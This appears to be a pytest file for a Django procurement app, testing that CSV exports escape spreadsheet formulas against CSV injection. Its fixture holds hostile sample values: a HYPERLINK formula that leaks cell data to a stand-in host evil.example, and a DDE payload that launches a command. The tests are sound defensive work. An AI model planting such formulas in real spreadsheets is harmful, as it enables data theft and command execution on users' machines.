"""No cell of a CSV the platform writes starts a spreadsheet formula (OWASP CSV injection): a cell
that starts with = + - @, a tab or a carriage return is prefixed with a single quote."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.test import Client

from apps.procurement.reports import evaluation_csv
from apps.procurement.services import evaluation_create
from certification.spreadsheet import spreadsheet_text

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the datasheet")'


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.fixture
def evaluation(cast, certified, tender):
    certified(sku="EVIL-1", name=HYPERLINK, architecture="@SUM(1+1)*cmd|' /C calc'!A0", memory_gib=96)
    certified(sku="PLAIN-1", name="-2+3", memory_gib=80)
    certified(sku="TAB-1", name="\t=1+1", memory_gib=80)
    return evaluation_create(
        tender=tender([{"kind": "memory_gib", "params": {"op": ">=", "value": 64}}]),
        actor=cast.buyer,
    )


def test_a_chip_named_like_a_formula_reaches_both_buyer_csvs_as_text(cast, client_for, evaluation):
    portal = Client()
    portal.force_login(cast.buyer)
    downloads = {
        "api": client_for(cast.buyer).get(f"/api/v1/evaluations/{evaluation.pk}/csv/"),
        "portal": portal.get(f"/procurement/evaluations/{evaluation.pk}/report.csv"),
    }
    for where, response in downloads.items():
        assert response.status_code == 200, where
        values = cells(response.content.decode())
        assert "'" + HYPERLINK in values, where  # the name is kept, as text
        assert "'-2+3" in values and "'\t=1+1" in values, where
        assert not [v for v in values if v.startswith(FORMULA_STARTS)], where


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals: some spreadsheet locales read it as "="
        ("Accelerator 1", "Accelerator 1"),
        ("", ""),
        ("'=already", "'=already"),
        (7, 7),
        (-1.5, -1.5),  # a number written as a number is no formula
        (None, None),
    ],
)
def test_spreadsheet_text(value, expected):
    assert spreadsheet_text(value) == expected


def test_the_evaluation_csv_has_no_formula_even_from_a_raw_snapshot():
    snapshot = {
        "tender": {"reference": "=R", "title": "=T"},
        "evaluated_at": "2026-01-01T00:00:00Z",
        "rule": {"id": "r", "date": "2023-10-17"},
        "scoring": {"formula": "score"},
        "requirements": [{"position": 1, "text": "=req"}],
        "rows": [
            {
                "rank": 1,
                "eligible": True,
                "score": 1.0,
                "serial": "=S",
                "program": "+P",
                "level": "-L",
                "chip": {"vendor": "@V", "sku": "=K", "name": "=N"},
                "target": "\tT",
                "backend": "\rB",
                "classification": {"code": "=C"},
                "cells": [{"ok": True, "value": 1, "source": "s"}],
                "reasons": ["=why"],
            }
        ],
    }
    values = cells(evaluation_csv(snapshot=snapshot))
    assert not [v for v in values if v.startswith(FORMULA_STARTS)]
    assert "'=N" in values and "'=why" in values


def test_every_csv_writer_goes_through_the_spreadsheet_module():
    """A new csv.writer elsewhere would write cells unneutralised."""
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for folder in ("apps", "certification")
        for path in (root / folder).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text()) and path.name != "spreadsheet.py"
    ]
    assert offenders == []
